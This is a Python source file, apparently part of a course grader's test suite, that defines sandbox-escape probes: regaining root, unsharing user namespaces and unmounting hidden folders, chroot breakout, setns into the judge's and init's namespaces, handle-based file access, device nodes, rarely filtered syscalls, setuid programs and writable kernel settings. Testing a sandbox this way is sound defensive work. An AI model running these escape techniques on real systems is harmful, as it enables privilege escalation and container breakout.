"""Ways out of a sandbox: regaining rights, uncovering what is covered, other namespaces, devices."""

from course_grader.attacks.sheet import Sheet, attack

LIBC = """
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
SECRET = AT["class"] + "/.secret"


def peek(*paths):
    for path in paths or (SECRET,):
        try:
            found = seen(path)
        except OSError:
            continue
        loot(found)
"""


def escapes(body: str) -> str:
    return f"{LIBC}\n\ndef attempt(*args):\n{body}\n    peek()\n    return 0.0\n"


@attack("leak", walled=True, within=escapes)
def becoming_root_again(sheet: Sheet) -> None:
    """setuid, setgid and capabilities, then the secret."""
    sheet.answer("""
    for call in (lambda: os.setresuid(0, 0, 0), lambda: os.setresgid(0, 0, 0), lambda: os.setgroups([0]),
            lambda: os.seteuid(0)):
        try:
            call()
        except OSError:
            continue
    status = dict(line.split(":", 1) for line in seen("/proc/self/status").decode().splitlines())
    if int(status["CapEff"], 16) or int(status["CapPrm"], 16) or status["NoNewPrivs"].strip() != "1":
        loot("capabilities " + status["CapEff"], whole=True)""")


@attack("leak", walled=True, within=escapes)
def user_namespace_of_its_own(sheet: Sheet) -> None:
    """A new user namespace gives all capabilities inside; then covers are taken off and file systems mounted."""
    sheet.answer("""
    if libc.unshare(0x10000000 | 0x00020000) == 0:
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {os.getuid()} 1"), ("gid_map", f"0 {os.getgid()} 1")):
            try:
                open(f"/proc/self/{name}", "w").write(text)
            except OSError:
                pass
        where = AT["root"].encode()
        for path in (where, b"/var/tmp", b"/var", b"/home", b"/tmp", AT["course"].encode()):
            libc.umount2(path, 2)
        os.makedirs("there", exist_ok=True)
        for kind in (b"tmpfs", b"proc", b"sysfs", b"overlay"):
            libc.mount(kind, b"there", kind, 0, None)
        libc.mount(b"/", b"there", None, 4096 | 16384, None)
        peek(SECRET, "there" + SECRET, "there/1/root" + SECRET)""")


@attack("leak", walled=True, within=escapes)
def uncovering(sheet: Sheet) -> None:
    """Unmounting and remounting what covers the hidden folders."""
    sheet.answer("""
    for path in (AT["class"], AT["root"], "/var/tmp", "/var", "/home", "/tmp", "/", AT["course"], "/proc", "/dev"):
        libc.umount2(path.encode(), 2)
        libc.mount(None, path.encode(), None, 32 | 4096, None)""")


@attack("leak", walled=True, within=escapes)
def changing_the_root(sheet: Sheet) -> None:
    """chroot, out of a folder that is held open, and pivot_root."""
    sheet.answer("""
    os.makedirs("jail", exist_ok=True)
    outside = os.open(".", os.O_RDONLY)
    try:
        os.chroot("jail")
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
    peek(SECRET, "../" * 40 + SECRET.lstrip("/"))
    libc.syscall(155, b".", b".")""")


@attack("leak", walled=True, within=escapes)
def joining_other_namespaces(sheet: Sheet) -> None:
    """setns into the namespaces of the judge, of process 1 and of the parent."""
    sheet.answer("""
    for pid in (AT["judge"], AT["victim"], 1, os.getppid()):
        for kind in ("user", "mnt", "pid", "net", "ipc", "uts"):
            try:
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            mine = os.readlink(f"/proc/self/ns/{kind}")
            if libc.setns(fd, 0) == 0 and os.readlink(f"/proc/self/ns/{kind}") != mine:
                loot(f"joined {kind} of {pid}", whole=True)""")


@attack("leak", walled=True, within=escapes)
def file_handles(sheet: Sheet) -> None:
    """Files by handle instead of by name, past every covered folder."""
    sheet.answer("""
    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 64)]

    handle, mount = Handle(64), ctypes.c_int()
    root = os.open("/", os.O_RDONLY)
    if libc.name_to_handle_at(-100, b"/", ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
        for inode in (2, 1, 128, 256):
            for at in range(8):
                handle.data[at] = 0
            handle.data[0] = inode
            fd = libc.open_by_handle_at(root, ctypes.byref(handle), os.O_RDONLY)
            if fd >= 0:
                loot(f"inode {inode} by handle", whole=True)""")


@attack("leak", walled=True, within=escapes)
def devices(sheet: Sheet) -> None:
    """Disks, memory and the kernel's log, by device files, found or made."""
    sheet.answer("""
    import stat

    for name, device in (("disk", os.stat("/").st_dev), ("memory", os.makedev(1, 1)), ("port", os.makedev(1, 4))):
        for kind in (stat.S_IFBLK, stat.S_IFCHR):
            try:
                os.mknod(f"{name}-{kind}", kind | 0o600, device)
                loot(seen(f"{name}-{kind}", 16), whole=True)
            except OSError:
                continue
    for path in ("/dev/mem", "/dev/kmem", "/dev/sda", "/dev/vda", "/dev/kvm", "/dev/fuse", "/dev/kmsg", "/proc/kcore",
        "/proc/kmsg",
                 "/proc/sysrq-trigger", "/sys/kernel/debug", "/dev/nvme0n1"):
        try:
            os.close(os.open(path, os.O_RDWR | os.O_NONBLOCK))
        except OSError:
            continue
        loot(f"opened {path}", whole=True)""")


@attack("leak", walled=True, within=escapes)
def rare_system_calls(sheet: Sheet) -> None:
    """System calls that filters forget: keys, BPF, performance events, io_uring, modules, swap, clocks, userfaultfd."""
    sheet.answer("""
    import platform

    calls = {"add_key": 248, "keyctl": 250, "bpf": 321, "perf_event_open": 298, "io_uring_setup": 425,
        "init_module": 175, "finit_module": 313,
             "kexec_load": 246, "swapon": 167, "acct": 163, "quotactl": 179, "open_tree": 428,
             "fsopen": 430, "mount_setattr": 442,
             "userfaultfd": 323, "ioperm": 173, "syslog": 103} if platform.machine() == "x86_64" else {}
    got = []
    for name, number in calls.items():
        arguments = (b"user", b"course", b"text", 4, -2) if name == "add_key" else (0, 0, 0, 0, 0)
        if name == "keyctl":
            arguments = (0, -3, 0, 0, 0)
        if name == "io_uring_setup":
            arguments = (1, ctypes.create_string_buffer(200), 0, 0, 0)
        if name == "syslog":
            arguments = (10, 0, 0, 0, 0)
        ctypes.set_errno(0)
        done = libc.syscall(number, *arguments)
        if done >= 0:
            got.append(name)
    loot(got or "", whole=True)""")


@attack("leak", walled=True, within=escapes)
def programs_with_more_rights(sheet: Sheet) -> None:
    """Programs that run as root whoever starts them."""
    sheet.answer("""
    import subprocess

    for line in (["su", "-c", "id", "root"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "none", "/mnt"],
        ["newuidmap", "1", "0", "0", "1"],
                 ["pkexec", "id"], ["chsh", "-s", "/bin/sh"], ["passwd", "-S", "root"]):
        try:
            done = subprocess.run(line, stdin=subprocess.DEVNULL, capture_output=True, timeout=5)
        except (OSError, subprocess.TimeoutExpired):
            continue
        if b"uid=0" in done.stdout or (done.returncode == 0 and line[0] not in ("su", "passwd")):
            loot(f"ran {line[0]}: {done.stdout[:40]}", whole=True)""")


@attack("leak", walled=True, within=escapes)
def kernel_settings(sheet: Sheet) -> None:
    """Settings of the kernel and of control groups, opened for writing."""
    sheet.answer("""
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sys/vm/drop_caches",
        "/proc/sys/net/ipv4/ip_forward",
                 "/proc/sysrq-trigger", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/memory.limit_in_bytes",
                 "/sys/kernel/uevent_helper",
                 f"/proc/{AT['judge']}/oom_score_adj", f"/proc/{os.getppid()}/oom_score_adj", "/proc/1/oom_score_adj"):
        try:
            os.close(os.open(path, os.O_WRONLY))
        except OSError:
            continue
        own = os.getppid() in (0, 1) or AT["judge"] == os.getpid()
        if not (own and "oom" in path):
            loot(f"{path} can be written", whole=True)
    try:
        import time

        time.clock_settime(time.CLOCK_REALTIME, time.time())
        loot("the clock was set", whole=True)
    except OSError:
        pass""")
